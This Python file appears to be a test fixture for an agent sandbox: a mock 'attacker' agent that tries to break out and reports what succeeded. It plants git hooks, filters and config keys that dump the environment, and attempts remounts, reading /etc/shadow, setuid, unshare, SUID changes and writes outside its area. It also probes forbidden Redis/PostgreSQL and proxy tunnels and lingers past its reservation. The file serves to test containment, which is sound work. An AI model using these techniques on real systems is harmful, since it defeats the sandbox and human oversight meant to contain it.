"""An attacker posing as the fixer's agent: run as the agent command, it tries to get out of its sandbox and
prints what it achieved as one stream-json line (``{"type": "system", "subtype": "attacker", ...}``).

Standard library only. Argument 1 is a JSON object naming what to try (``try``: any of ``git``,
``privilege``, ``network``) and the places outside it aims at; the fixer's brief comes last. After the
report it prints the cost lines of ``costs`` and lingers ``linger_s`` seconds, then writes ``survived`` in
its worktree (a worker that stops it at its reservation never lets it get that far) and exits ``exit``.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

HOOKS = (
    "post-checkout",
    "reference-transaction",
    "post-merge",
    "pre-auto-gc",
    "post-rewrite",
    "pre-push",
    "post-index-change",
    "fsmonitor-watchman",
    "pre-commit",
    "post-commit",
    "push-to-checkout",
)
IDENTITY = ["-c", "user.name=attacker", "-c", "user.email=attacker@example.invalid"]


def attempt(action: Callable[[], Any]) -> dict[str, Any]:
    """What one try did: ``{"ok": True, "got": ...}`` or ``{"ok": False, "error": ...}``."""
    try:
        return {"ok": True, "got": action()}
    except Exception as exc:  # every failure is a result here
        return {"ok": False, "error": f"{type(exc).__name__}: {exc}"}


def run(*argv: str, timeout: float = 20) -> dict[str, Any]:
    done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, check=False)
    return {"rc": done.returncode, "out": done.stdout[-400:], "err": done.stderr[-400:]}


def git(*args: str) -> str:
    done = subprocess.run(["git", *IDENTITY, *args], capture_output=True, text=True, timeout=30, check=True)
    return done.stdout.strip()


def payload(markers: str, name: str) -> str:
    """A shell script that, wherever it runs, leaves the environment it ran with in ``markers``."""
    return f"#!/bin/sh\nenv > '{markers}/{name}-'$$ 2>/dev/null\nexit 0\n"


def write_executable(path: Path, text: str) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return str(path)


def plant_git(config: dict[str, Any]) -> dict[str, Any]:
    """Item 1: hooks and config in every git directory it can reach, and a commit carrying a filter."""
    markers, done = config["markers"], {}
    common = Path(git("rev-parse", "--path-format=absolute", "--git-common-dir"))
    done["common_dir"] = str(common)
    for name in HOOKS:
        done[f"hook {name}"] = attempt(
            lambda n=name: write_executable(common / "hooks" / n, payload(markers, n))
        )
    hooks_path = Path.cwd() / ".evil-hooks"
    for name in HOOKS:
        write_executable(hooks_path / name, payload(markers, f"hookspath-{name}"))
    monitor = write_executable(Path.cwd() / ".evil-fsmonitor", payload(markers, "fsmonitor"))
    keys = {
        "core.hooksPath": str(hooks_path),
        "core.fsmonitor": monitor,
        "filter.evil.smudge": f"sh -c 'env > {markers}/smudge; cat'",
        "filter.evil.clean": f"sh -c 'env > {markers}/clean; cat'",
        "uploadpack.packObjectsHook": f"sh -c 'env > {markers}/pack-objects'",
        "core.sshCommand": f"sh -c 'env > {markers}/ssh'",
        "core.alternateRefsCommand": f"sh -c 'env > {markers}/alternate-refs'",
        "protocol.ext.allow": "always",
    }
    for key, value in keys.items():
        done[f"config {key}"] = attempt(lambda k=key, v=value: git("config", k, v))
    Path(".gitattributes").write_text("* filter=evil\n")
    Path("evil.txt").write_text("smudge me\n")
    done["commit"] = attempt(lambda: (git("add", "-A"), git("commit", "-q", "-m", "attacker"))[1])
    origin = Path(config["origin_git_dir"])
    done["origin seen"] = attempt(origin.exists)
    done["origin hook"] = attempt(
        lambda: write_executable(origin / "hooks" / "post-checkout", payload(markers, "o"))
    )
    done["origin config"] = attempt(
        lambda: (origin / "config").open("a").write("[core]\n\thooksPath = /tmp\n")
    )
    return done


def status() -> dict[str, str]:
    lines = Path("/proc/self/status").read_text().splitlines()
    wanted = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {k: v.strip() for k, _, v in (line.partition(":") for line in lines) if k in wanted}


def write_outside(path: str) -> str:
    Path(path).write_text("the agent was here\n")
    return path


def try_privilege(config: dict[str, Any]) -> dict[str, Any]:
    """Item 2: who it is, what it may do, and every way out of the read-only, emptied filesystem."""
    done: dict[str, Any] = {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
    }
    done["status"] = status()
    done["uid_map"] = attempt(lambda: Path("/proc/self/uid_map").read_text().split())
    done["env"] = sorted(os.environ)
    done["run"] = attempt(lambda: sorted(os.listdir("/run")))  # before a mount command could write there
    done["remount"] = attempt(lambda: run("mount", "-o", "remount,rw,bind", "/"))
    done["remount /etc"] = attempt(lambda: run("mount", "-o", "remount,rw", "/etc"))
    done["tmpfs over /etc"] = attempt(lambda: run("mount", "-t", "tmpfs", "none", "/etc"))
    for path in config["outside_files"]:
        done[f"write {path}"] = attempt(lambda p=path: write_outside(p))
    done["read /etc/shadow"] = attempt(lambda: Path("/etc/shadow").read_text()[:20])
    done["setuid 0"] = attempt(lambda: os.setuid(0))
    done["unshare -Ur"] = attempt(lambda: run("unshare", "-U", "-r", "id"))
    done["unshare -Urm"] = attempt(
        lambda: run("unshare", "-U", "-r", "-m", "sh", "-c", "mount -t tmpfs none /mnt")
    )
    done["kill worker"] = attempt(lambda: os.kill(config["worker_pid"], 0))
    done["state"] = attempt(lambda: sorted(os.listdir(config["state"])))
    done["root home"] = attempt(lambda: sorted(os.listdir("/root")))
    done["setuid binaries"] = attempt(lambda: run("su", "-c", "id"))
    done["chmod suid"] = attempt(lambda: os.chmod(sys.executable, stat.S_ISUID | 0o755))
    return done


def connect(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3) as conn:
        conn.sendall(b"PING\r\n")
        return conn.recv(64).decode("latin-1")


def unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.connect(path)
        return "connected"


def through_proxy(request: str) -> str:
    """Send ``request`` to the proxy the sandbox names; its status line."""
    proxy = os.environ["HTTPS_PROXY"].removeprefix("http://")
    host, _, port = proxy.partition(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(request.encode() + b"\r\n\r\n")
        return conn.recv(200).decode("latin-1").split("\r\n")[0]


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as reply:  # the environment's proxy, as any client would
        return f"{reply.status} {reply.read(200).decode('utf-8', 'replace')}"


def try_network(config: dict[str, Any]) -> dict[str, Any]:
    """Item 3: the fleet's Redis and PostgreSQL, directly and through the proxy, and the allowed model."""
    done: dict[str, Any] = {"proxy": os.environ.get("HTTPS_PROXY")}
    for name, (host, port) in config["forbidden"].items():
        done[f"tcp {name}"] = attempt(lambda h=host, p=port: connect(h, p))
    for path in config["unix"]:
        done[f"unix {path}"] = attempt(lambda p=path: unix(p))
    done["unix abstract"] = attempt(lambda: unix("\0ouro-attacker"))
    done["psql"] = attempt(
        lambda: run("psql", "-h", "127.0.0.1", "-U", "postgres", "-c", "select 1", timeout=15)
    )
    done["dns"] = attempt(lambda: socket.getaddrinfo("pypi.org", 443))
    if done["proxy"]:
        for name, target in config["via_proxy"].items():
            done[f"CONNECT {name}"] = attempt(
                lambda t=target: through_proxy(f"CONNECT {t} HTTP/1.1\r\nHost: {t}")
            )
        done["GET redis"] = attempt(lambda: fetch(config["redis_url"]))
        done["model"] = attempt(lambda: fetch(config["model_url"]))
    return done


def spend(config: dict[str, Any]) -> None:
    """Item 4: the cost lines it was given, then it lingers; a live worker stops it before ``survived``."""
    for cost in config.get("costs", []):
        say({"type": "result", "subtype": "success", "session_id": "attacker", "total_cost_usd": cost})
    time.sleep(config.get("linger_s", 0))
    Path("survived").write_text("the agent outlived its reservation\n")
    sys.exit(config.get("exit", 0))  # a failing agent: what it spent past its last line is unknown


def say(document: dict[str, Any]) -> None:
    print(json.dumps(document), flush=True)


def main() -> None:
    config = json.loads(sys.argv[1])
    tries = {"git": plant_git, "privilege": try_privilege, "network": try_network}
    results = {name: attempt(lambda f=tries[name]: f(config)) for name in config.get("try", [])}
    say({"type": "system", "subtype": "attacker", "results": results})
    spend(config)


if __name__ == "__main__":
    main()
